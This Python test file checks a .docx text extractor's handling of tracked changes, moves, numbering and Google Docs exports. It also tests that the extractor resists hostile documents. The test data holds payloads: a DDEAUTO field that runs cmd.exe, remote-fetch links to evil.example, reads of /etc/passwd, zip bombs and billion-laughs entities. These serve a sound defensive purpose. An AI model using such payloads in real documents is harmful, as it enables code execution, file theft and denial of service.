"""What other readers of Word files fail at, and what their users ask for, one test each; the rest is tested elsewhere.

========================================  =============================================================================
what goes wrong elsewhere                 where it is tested
========================================  =============================================================================
changes in neither or both texts          test_docx_reader, test_docx_round_trip
marks, rows, cells, grids, text boxes     test_docx_reader, test_docx_wholeness, here
changes in notes, headers, footers        test_docx_wholeness, test_margin_changes
moves: pairs, edited, without words lost  test_docx_reader, here
changes of form taken for text            test_docx_wholeness, test_margin_changes, here
threads, replies, resolved, anchors       test_docx_reader, test_docx_threads
numbers: missing, flattened, phantom      test_numbering, test_docx_numbering_cases, here
text boxes twice                          test_docx_reader
fetching: templates, pictures, fields     here; no network at all: test_hardening, test_containment
bombs, lying sizes, names, overlaps       test_archive, test_read
entities, depth, giant attributes         test_read, here
macros and embedded objects               test_docx_wholeness
a failed file gives no reason             test_read, test_bad_input
========================================  =============================================================================
"""

from __future__ import annotations

import sys
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from io import BytesIO

import pytest
from docx_builder import (
    NAMESPACES,
    RELATIONSHIPS,
    cell,
    change,
    definition,
    deleted,
    docx,
    ins,
    instance,
    level,
    listed,
    package,
    paragraph,
    row,
    run,
    style,
    table,
    zipped,
)

from extractor.errors import ExtractionError, LimitReached, UnreadableDocument
from extractor.readers import read
from extractor.types import Document

R_NS = f'xmlns:r="{RELATIONSHIPS}"'


def document(*body: str, **parts: str) -> Document:
    return read(docx(*body, **parts), "contract.docx")


def labels(found: Document) -> list[tuple[str | None, str]]:
    return [(block.label, found.quote(block.span)) for block in found.blocks]


# -- nothing is fetched -----------------------------------------------------------------------------------------------

_WATCHED = ("open", "socket.", "urllib.", "http.", "ftplib.", "subprocess.", "os.system", "os.exec", "os.posix_spawn")
_watching: list[list[str]] = []


def _listen(event: str, arguments: tuple[object, ...]) -> None:
    if _watching and event.startswith(_WATCHED):
        _watching[-1].append(f"{event} {arguments[:1]}")


sys.addaudithook(_listen)


@contextmanager
def touched() -> Iterator[list[str]]:
    """The files, connections and programs that are opened inside."""
    seen: list[str] = []
    _watching.append(seen)
    try:
        yield seen
    finally:
        _watching.pop()


def linked(body: str, kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """A file whose main part has one relationship, ``r0``."""
    entries = package(body)
    entries["word/_rels/document.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r0" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return zipped(entries)


def field(instruction: str, result: str = "shown") -> str:
    parts = ("begin", f"<w:instrText>{instruction}</w:instrText>", "separate", f"<w:t>{result}</w:t>", "end")
    return "".join(
        f"<w:r>{part}</w:r>" if part.startswith("<") else f'<w:r><w:fldChar w:fldCharType="{part}"/></w:r>'
        for part in parts
    )


PICTURE = (
    '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'{R_NS} r:link="r0"/></w:drawing></w:r>'
)
REMOTE = "http://evil.example/payload"
LOCAL = "file:///etc/passwd"


@pytest.mark.parametrize("target", [REMOTE, LOCAL, r"\\evil.example\share\a.dotm"], ids=["web", "file", "share"])
@pytest.mark.parametrize(
    ("kind", "markup"),
    [
        ("attachedTemplate", ""),
        ("image", PICTURE),
        ("hyperlink", f'<w:hyperlink {R_NS} r:id="r0">{run("")}</w:hyperlink>'),
        ("oleObject", f'<w:r><w:object><o:OLEObject xmlns:o="x" {R_NS} r:id="r0"/></w:object></w:r>'),
        ("styles", ""),
        ("comments", ""),
        ("mailMergeSource", ""),
    ],
)
def test_what_a_relationship_points_to_outside_is_not_opened(kind: str, markup: str, target: str) -> None:
    data = linked(paragraph("Body", markup), kind, target)
    read(data, "warm.docx")  # what Python itself loads, it loads now

    with touched() as seen:
        found = read(data, "a.docx")
    assert (found.text, seen) == ("Body", [])


@pytest.mark.parametrize("element", ["altChunk", "subDoc"])
def test_a_part_that_word_would_fetch_and_merge_in_is_a_problem(element: str) -> None:
    data = linked(paragraph("Body") + f'<w:{element} {R_NS} r:id="r0"/>', "aFChunk", REMOTE)
    read(data, "warm.docx")

    with touched() as seen:
        found = read(data, "a.docx")
    assert (found.text, seen, len(found.problems)) == ("Body", [], 1)


@pytest.mark.parametrize(
    "instruction",
    [
        f'INCLUDETEXT "{LOCAL}"', f'INCLUDEPICTURE "{REMOTE}" \\d', 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
        'DDE "Excel" "a"', f'LINK Word.Document "{LOCAL}"', f'IMPORT "{LOCAL}"', f'DATABASE \\d "{LOCAL}"',
        f'RD "{LOCAL}"',
    ],
)  # fmt: skip
def test_of_a_field_that_fetches_only_the_kept_result_is_read(instruction: str) -> None:
    data = docx(paragraph("See ", field(instruction), "."))
    read(data, "warm.docx")

    with touched() as seen:
        found = read(data, "a.docx")
    assert (found.text, seen) == ("See shown.", [])


def test_what_is_opened_would_be_noticed() -> None:
    with touched() as seen, open("/dev/null"):
        pass
    assert seen


# -- hostile packages and markup --------------------------------------------------------------------------------------


def stored(entries: dict[str, bytes | str]) -> bytes:
    """A package whose parts are not compressed, so that size alone is what is tested."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_a_symbolic_link_is_its_bytes_and_leads_nowhere() -> None:
    link = zipfile.ZipInfo("word/document.xml")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in package().items():
            archive.writestr(
                link if name == link.filename else name, "/etc/passwd" if name == link.filename else content
            )

    with pytest.raises(UnreadableDocument):
        read(buffer.getvalue(), "a.docx")


def test_an_embedded_package_is_not_unpacked() -> None:
    bomb = zipped({"a.xml": b"\0" * 50_000_000})
    entries = package(paragraph("Body")) | {"word/embeddings/bomb.docx": bomb, "word/embeddings/self.zip": bomb}

    assert read(zipped(entries), "a.docx").text == "Body"


def test_a_bomb_that_word_would_merge_in_costs_its_own_place_only() -> None:
    bomb = zipped(package(paragraph("x")) | {"word/media/a.png": b"\0" * 8_000_000})
    entries = package(paragraph("Body") + f'<w:altChunk {R_NS} r:id="r0"/>') | {"word/a.docx": bomb}
    entries["word/_rels/document.xml.rels"] = linked_relation("aFChunk", "a.docx")
    found = read(stored(entries), "a.docx")

    assert (found.text, [problem.code for problem in found.problems]) == ("Body", ["embedded_content_not_read"])


def linked_relation(kind: str, target: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r0" Type="{RELATIONSHIPS}/{kind}" Target="{target}"/></Relationships>'
    )


def test_a_giant_attribute_is_refused() -> None:
    body = paragraph("x").replace("<w:p>", f'<w:p w:rsid="{"a" * 11_000_000}">')

    with pytest.raises(ExtractionError):
        read(stored(package(body)), "a.docx")


def test_a_giant_text_is_refused() -> None:
    with pytest.raises(LimitReached):
        read(stored(package(paragraph("word " * 4_500_000))), "a.docx")


def test_many_attributes_and_namespaces_cost_no_more_than_their_length() -> None:
    attributes = "".join(f' a{number}="1"' for number in range(20_000))
    spaces = "".join(f' xmlns:n{number}="u{number}"' for number in range(5_000))
    body = paragraph("x").replace("<w:p>", f"<w:p{attributes}{spaces}>")

    assert document(body).text == "x"


def test_billion_laughs_are_refused_before_they_are_expanded() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    markup = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w:document {NAMESPACES}><w:body>&l9;</w:body></w:document>'

    with pytest.raises(UnreadableDocument, match="DOCTYPE"):
        read(zipped(package() | {"word/document.xml": markup}), "a.docx")


# -- moves ------------------------------------------------------------------------------------------------------------


def move(direction: str, content: str, name: str, id: int) -> str:
    start = f'<w:move{direction}RangeStart w:id="{id}" w:name="{name}" w:author="Ann"/>'
    return f'{start}{content}<w:move{direction}RangeEnd w:id="{id}"/>'


def moved_paragraph(direction: str, content: str, name: str, id: int) -> str:
    return move(direction, paragraph(content, mark=change(f"move{direction}")), name, id)


def test_whole_paragraphs_that_moved_pair_up_and_refusing_brings_them_back() -> None:
    body = (
        moved_paragraph("From", change("moveFrom", run("Notices.")), "m1", 1)
        + paragraph("Term.")
        + moved_paragraph("To", change("moveTo", run("Notices.")), "m1", 2)
        + paragraph("End.")
    )
    found = document(body)

    assert (found.text, found.original_text) == ("Term.\nNotices.\nEnd.", "Notices.\nTerm.\nEnd.")
    assert [(one.kind, one.move_id) for one in found.revisions] == [("move_from", "m1"), ("move_to", "m1")]


def test_what_was_edited_after_it_moved_keeps_both_stories() -> None:
    edited = change("moveTo", run("Notice in ")) + change("moveTo", deleted("ten")) + ins("five") + run(" days.")
    body = (
        move("From", paragraph(change("moveFrom", run("Notice in ten days."))), "m1", 1)
        + paragraph("Term.")
        + move("To", paragraph(edited), "m1", 2)
    )
    found = document(body)

    assert found.text == "Term.\nNotice in five days."
    assert found.original_text == "Notice in ten days.\nTerm.\ndays."
    assert {(one.kind, one.text, one.superseded) for one in found.revisions} >= {
        ("deletion", "ten", True), ("insertion", "five", False), ("move_from", "Notice in ten days.", False),
    }  # fmt: skip


def test_words_under_the_wrong_element_of_a_move_are_not_lost() -> None:
    wrong = run("old").replace("w:t>", "w:delText>").replace("<w:t ", "<w:delText ")

    assert document(paragraph("x", change("moveFrom", wrong))).original_text == "xold"
    assert document(paragraph("x", change("del", run("old")))).original_text == "xold"


def test_two_moves_at_a_time_are_told_apart() -> None:
    body = paragraph(
        move("From", change("moveFrom", run("A")), "m1", 1), move("From", change("moveFrom", run("B")), "m2", 2),
        move("To", change("moveTo", run("B")), "m2", 3), move("To", change("moveTo", run("A")), "m1", 4),
    )  # fmt: skip
    found = document(body)

    assert (found.text, found.original_text) == ("BA", "AB")
    assert {(one.text, one.kind): one.move_id for one in found.revisions} == {
        ("A", "move_from"): "m1", ("B", "move_from"): "m2", ("B", "move_to"): "m2", ("A", "move_to"): "m1",
    }  # fmt: skip


def test_a_row_that_moved_is_in_each_text_once() -> None:
    body = table(
        row("Fees", properties=change("del")), row("Term"), row("Fees", properties=change("ins", id=2)), row("Law")
    )
    found = document(body)

    assert (found.text, found.original_text) == ("Term\nFees\nLaw", "Fees\nTerm\nLaw")


# -- changes of form --------------------------------------------------------------------------------------------------


def test_form_changed_on_blanks_alone_makes_no_change_of_words() -> None:
    bold = change("rPrChange", "<w:rPr><w:b/></w:rPr>")
    found = document(*(paragraph("word", run(" ", bold), "word") for _ in range(88)))

    assert (found.revisions, found.text == found.original_text) == ((), True)
    assert sum(changes.count for changes in found.form_changes) == 88


def test_a_changed_grid_and_borders_leave_the_cells_alone() -> None:
    grid = f"<w:tblGrid><w:gridCol/>{change('tblGridChange', '<w:tblGrid/>')}</w:tblGrid>"
    exceptions = f"<w:tblPrEx>{change('tblPrExChange', '<w:tblPrEx/>')}</w:tblPrEx>"
    found = document(f"<w:tbl>{grid}<w:tr>{exceptions}{cell('One')}{cell('Two')}</w:tr></w:tbl>")

    assert (found.text, found.original_text, found.revisions) == ("One\tTwo", "One\tTwo", ())
    assert sum(changes.count for changes in found.form_changes) == 2


# -- numbers ----------------------------------------------------------------------------------------------------------

LISTS = definition(level(0, "%1."), level(1, "%1.%2"), level(2, "(%3)", "lowerLetter")) + instance()


def test_headings_and_items_keep_their_multi_level_numbers_in_order() -> None:
    styled = style("Heading1", "heading 1", properties='<w:numPr><w:numId w:val="1"/></w:numPr>')
    body = (
        paragraph("Term", style="Heading1"),
        listed("One year.", 1),
        listed("and more", 2),
        paragraph("Fees", style="Heading1"),
    )

    assert labels(document(*body, numbering=LISTS, styles=styled)) == [
        ("1.", "Term"), ("1.1", "One year."), ("(a)", "and more"), ("2.", "Fees"),
    ]  # fmt: skip


def test_a_level_without_a_number_shows_none_and_counts_on() -> None:
    silent = definition(level(0, "", "none"), level(1, "%2.")) + instance()

    assert labels(document(listed("Title"), listed("One", 1), listed("Two", 1), numbering=silent)) == [
        (None, "Title"), ("1.", "One"), ("2.", "Two"),
    ]  # fmt: skip


def test_a_paragraph_between_items_gets_no_phantom_number() -> None:
    assert labels(document(listed("One"), paragraph("Between"), listed("Two"), numbering=LISTS)) == [
        ("1.", "One"), (None, "Between"), ("2.", "Two"),
    ]  # fmt: skip


def test_numbers_go_on_through_tables_and_text_boxes() -> None:
    inside = table(row(cell(listed("In a cell"))))

    found = document(listed("One"), inside, listed("Three"), numbering=LISTS)
    assert [block.label for block in found.blocks] == ["1.", "2.", "3."]


# -- nested tables ----------------------------------------------------------------------------------------------------


def test_a_changed_row_of_a_nested_table_changes_its_cell() -> None:
    inner = table(row("kept"), row("gone", properties=change("del")), row("new", properties=change("ins", id=2)))
    found = document(table(row(cell("Fees", inner, paragraph("end")), "B")))

    assert (found.text, found.original_text) == ("Fees kept new end\tB", "Fees kept gone end\tB")
    assert [(one.kind, one.text.strip()) for one in found.revisions] == [("deletion", "gone"), ("insertion", "new")]


# -- other writers ----------------------------------------------------------------------------------------------------


def google(number: int, content: str) -> str:
    """What Google Docs wraps around each suggestion and comment that it exports."""
    tag = f'<w:sdtPr><w:id w:val="{number}"/><w:tag w:val="goog_rdk_{number}"/></w:sdtPr>'
    return f"<w:sdt>{tag}<w:sdtContent>{content}</w:sdtContent></w:sdt>"


def test_suggestions_and_comments_from_google_docs() -> None:
    start, end = '<w:commentRangeStart w:id="0"/>', '<w:commentRangeEnd w:id="0"/>'
    line = (
        run("Pay in ")
        + google(0, deleted("30", author="Ann Lee", id=0))
        + google(1, ins("60", author="Ann Lee", id=0))
        + google(2, start)
        + run(" days")
        + end
        + '<w:r><w:commentReference w:id="0"/></w:r>'
    )
    gone = paragraph(google(3, deleted("Gone.", author="Ann Lee", id=1)), mark=change("del", author="Ann Lee", id=1))
    note = f'<w:comment w:id="0" w:author="Ann Lee" w:date="2026-03-02T09:30:00Z">{paragraph("Why?")}</w:comment>'
    found = document(paragraph(line), google(4, gone), paragraph("End"), comments=note)

    assert (found.text, found.original_text) == ("Pay in 60 days\nEnd", "Pay in 30 days\nGone.\nEnd")
    assert [(one.kind, one.text.strip(), one.author) for one in found.revisions] == [
        ("deletion", "30", "Ann Lee"), ("insertion", "60", "Ann Lee"), ("deletion", "Gone.", "Ann Lee"),
    ]  # fmt: skip
    assert [(one.text, one.quote.strip(), one.initials) for one in found.comments] == [("Why?", "days", None)]
